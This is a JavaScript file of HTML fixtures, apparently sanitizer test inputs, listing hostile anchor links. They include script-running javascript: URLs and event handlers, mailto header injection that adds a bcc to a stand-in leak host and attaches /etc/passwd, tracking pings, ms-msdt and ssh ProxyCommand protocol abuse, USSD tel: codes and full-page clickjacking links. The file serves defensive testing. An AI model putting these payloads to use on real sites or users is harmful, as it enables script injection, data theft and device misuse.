/** Links: what they open, whom they tell, and what they start on a phone. */
import { LEAK, RUN, RUN_AS_TEXT } from './parts.js';

/** @type {Readonly<Record<string, string>>} */
export const LINKS = {
  'link into another window': `<a href="https://leak.example/" target=_blank>a</a><a href="https://leak.example/" target=_top rel=opener>b</a>`,
  'link into a frame of the page': `<a href="https://leak.example/" target=login>a</a><a href="/b" target="_parent">b</a><a href="/c" target="_unfencedTop">c</a>`,
  'link into a window whose name is markup': `<a href="https://leak.example/" target="<script>\n">a</a><a href="/b" target="${RUN_AS_TEXT}">b</a>`,
  'link that tells others': `<a href="/a" ping="${LEAK} ${LEAK}-2">a</a><a href="https://leak.example/" referrerpolicy=unsafe-url>b</a>`,
  'link that counts': `<a href="https://leak.example/" attributionsrc="${LEAK}" attributiondestination="${LEAK}" attributionsourceid=1>a</a>`,
  'link that downloads': `<a href="/a.exe" download>a</a><a href="data:text/plain,a" download="a.bat">b</a><a href="https://leak.example/c" download="../../c.sh">c</a>`,
  'link with a relation of its own': `<a href="https://leak.example/" rel="opener prefetch prerender dns-prefetch stylesheet next me pingback">a</a>`,
  'link with a language, a type and keys': `<a href="/a" hreflang="${RUN_AS_TEXT}" type="text/html;${RUN_AS_TEXT}" accesskey=s tabindex=1 charset=utf-7 media=all>a</a>`,
  'link with coordinates': `<a href="/a" shape=rect coords="0,0,9999,9999" methods=POST urn=a rev=stylesheet name=top>a</a>`,
  'link for other apps': `<a href="whatsapp://send?text=a">a</a><a href="intent://a/#Intent;scheme=https;package=evil;S.browser_fallback_url=https://leak.example;end">b</a><a href="tg://resolve?domain=a">c</a>`,
  'link for the system': `<a href="ms-settings:privacy">a</a><a href="ms-msdt:/id a">b</a><a href="search-ms:query=a&crumb=location:\\\\leak.example\\a">c</a><a href="ms-word:ofe|u|https://leak.example/a.docm">d</a>`,
  'link for the shell': `<a href="ssh://-oProxyCommand=a/">a</a><a href="telnet://a/">b</a><a href="steam://run/1">c</a><a href="vscode://a/b?c">d</a><a href="itms-services://?action=download-manifest&url=https://leak.example/">e</a>`,
  'link for messages': `<a href="sms:+49891;body=a">a</a><a href="mms:1">b</a><a href="facetime:a@b.example">c</a><a href="skype:a?call">d</a><a href="callto:1">e</a><a href="xmpp:a@b.example">f</a>`,
  'link for money and for keys': `<a href="bitcoin:1a?amount=9">a</a><a href="upi://pay?pa=a">b</a><a href="otpauth://totp/a?secret=b">c</a><a href="web+evil:a">d</a><a href="magnet:?xt=a">e</a>`,
  'mail with more than an address': `<a href="mailto:a@b.example?subject=a&body=b&bcc=c@leak.example&attach=/etc/passwd">a</a><a href="mailto:?to=c@leak.example">b</a>`,
  'mail with further lines': `<a href="mailto:a@b.example%0Abcc:c@leak.example">a</a><a href="mailto:a%0d%0aTo:c@leak.example">b</a><a href="mailto:a@b.example&#10;bcc:c@leak.example">c</a>`,
  'mail with further addresses': `<a target=_blank href="mailto:a@b.example,c@leak.example">a</a><a href="mailto:a@b.example;c@leak.example">b</a><a href="mailto:a%3Fbcc=c@leak.example">c</a>`,
  'mail with markup': `<a href="mailto:${RUN_AS_TEXT}@b.example">a</a><a href='mailto:"><script>hacked()</script>@b.example'>b</a><a href="mailto:javascript:hacked()@b.example">c</a>`,
  'number with a code of the network': `<a href="tel:*#06#">a</a><a href="tel:**21*+4989123%23">b</a><a href="tel:%2A%2306%23">c</a><a href="tel:*2767*3855%23">d</a>`,
  'number with pauses, parameters and markup': `<a href="tel:112,,,1#">a</a><a href="tel:112;phone-context=leak.example">b</a><a href="tel:112?call">c</a><a href="tel:${RUN_AS_TEXT}">d</a>`,
  'link with a text of another address': `<a href="https://leak.example/" title="https://www.stadt.example/" style="text-decoration:none" onclick=hacked()>https://www.stadt.example/</a>`,
  'link around a whole page': `<a href="https://leak.example/" target=_blank><div style="position:fixed;inset:0"><h1>a</h1><p>b<ul><li>c</ul></div></a>`,
  'link with nothing to click': `<a href="https://leak.example/" target=_blank></a><a href="https://leak.example/" style="position:fixed;inset:0"> <span></span></a>`,
  'link with nothing but a failing picture': `<a href="javascript:hacked()" target=_blank><img src=x onerror=hacked() alt="${RUN_AS_TEXT}"></a><a href="https://leak.example/" ping="${LEAK}"><img src="${LEAK}.png"></a>`,
  'link that never ends': `<p><a href="https://leak.example/" onclick=hacked()>a<p>b<ul><li>c<li>${RUN}`,
};
